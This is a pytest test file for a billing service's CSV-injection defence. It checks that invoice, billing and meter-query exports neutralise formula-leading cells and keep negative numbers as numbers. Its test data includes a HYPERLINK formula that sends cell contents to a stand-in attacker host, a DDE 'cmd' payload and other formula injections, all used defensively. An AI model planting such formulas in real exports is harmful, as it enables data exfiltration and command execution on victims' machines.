"""CSV injection: no CSV meterline writes starts a cell with a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from conftest import Api, build_api
from test_billing_api import PLAN, get, move_to, ok, post, run

from meterline.domain.csvsafe import FORMULA_PREFIXES, cell

LINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
NUMBER = re.compile(r"-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("--5", "'--5"),
        ("- 5", "'- 5"),
        ("+5", "'+5"),  # not the JSON number grammar, and meterline never writes it
        ("-5", "-5"),  # numbers stay numbers
        ("-0.25", "-0.25"),
        ("-1.5e-7", "-1.5e-7"),
        (Decimal("-3.50"), "-3.50"),
        (-7, "-7"),
        ("12", "12"),
        ("a=1;b=2", "a=1;b=2"),
        ("", ""),
        (None, ""),
    ],
)
def test_cell(value: Any, written: str) -> None:
    assert cell(value) == written


def safe(text: str) -> list[list[str]]:
    """The CSV's rows, after checking that no cell would be evaluated by a spreadsheet."""
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, "an empty CSV proves nothing"
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_PREFIXES) or NUMBER.fullmatch(value), (value, row)
    return rows


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Api]:
    """A finalized invoice and usage whose names and group values are all formulas."""
    gen = build_api(tmp_path, billing={"scheduler_enabled": False})
    api = next(gen)
    spec = {"slug": "api_calls", "eventType": "request", "aggregation": "SUM", "valueProperty": "$.calls"}
    ok(api.create_meter(**spec, groupBy={"region": "$.region"}), 201)
    ok(api.create_meter(slug="storage_gb", eventType="storage", aggregation="SUM", valueProperty="$.gb"), 201)
    customer = {"key": "acme", "name": LINK, "subjectKeys": ["acme", "@acme"], "timezone": "UTC"}
    ok(post(api, "/api/v1/customers", customer), 201)
    cards = [
        {"key": "platform", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "model": {"model": "flat", "amount": "49"}},
        {
            "key": "egress",
            "name": LINK,
            "meter": "api_calls",
            "groupBy": "region",
            "groups": {"=1+1": {"model": "per_unit", "unitPrice": "0.02"}},
            "model": {"model": "per_unit", "unitPrice": "0.01"},
        },
    ]
    ok(post(api, "/api/v1/billing/plans", {**PLAN, "cards": cards}), 201)
    ok(post(api, "/api/v1/billing/plans/pro/versions/1/publish"))
    ok(
        post(
            api, "/api/v1/billing/subscriptions", {"customer": "acme", "plan": "pro", "start": "2026-03-01T00:00:00Z"}
        ),
        201,
    )
    events = [
        {"specversion": "1.0", "id": f"e{i}", "source": "t", "type": "request", "subject": subject}
        | {"time": "2026-03-01T10:00:00Z", "data": {"calls": n, "region": region}}
        for i, (subject, region, n) in enumerate(
            [("acme", "=1+1", 10), ("@acme", "\t=2+2", 5), ("acme", "-2+3", 1), ("acme", "eu", -4)]
        )
    ]
    r = api.post_events(events)
    assert r.status_code in (200, 202, 204), r.text
    move_to(api, "2026-04-01T00:01:00Z")
    assert run(api)["created"] == ["INV-000001"]
    yield api
    gen.close()


def test_invoice_lines_and_billing_exports_are_neutralised(hostile: Api) -> None:
    api = hostile
    lines = safe(get(api, "/api/v1/invoices/INV-000001/lines.csv").text)
    names = {row[3] for row in lines[1:]}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert any(n.startswith("'" + LINK) for n in names), names  # a group line: the card name leads
    q = {"from": "2026-03-01T00:00:00Z", "to": "2026-04-01T00:00:00Z"}
    export = safe(get(api, "/api/v1/billing/export", **q, format="csv").text)
    header = export[0]
    assert {row[header.index("customerName")] for row in export[1:]} == {"'" + LINK}
    report = safe(get(api, "/api/v1/billing/report", **q, format="csv").text)
    assert any(row[report[0].index("name")].startswith("'" + LINK) for row in report[1:])


def test_meter_query_csv_is_neutralised_and_keeps_negative_numbers(hostile: Api) -> None:
    api = hostile
    params = [("groupBy", "region"), ("groupBy", "subject"), ("from", "2026-03-01T00:00:00Z")]
    params.append(("to", "2026-04-01T00:00:00Z"))
    text = api.query("api_calls", params, Accept="text/csv").text
    rows = safe(text)
    header = rows[0]
    got = {(row[header.index("subject")], row[header.index("region")], row[header.index("value")]) for row in rows[1:]}
    assert got == {
        ("acme", "'=1+1", "10"),
        ("'@acme", "'\t=2+2", "5"),
        ("acme", "'-2+3", "1"),
        ("acme", "eu", "-4"),  # a negative quantity is written as the number it is
    }
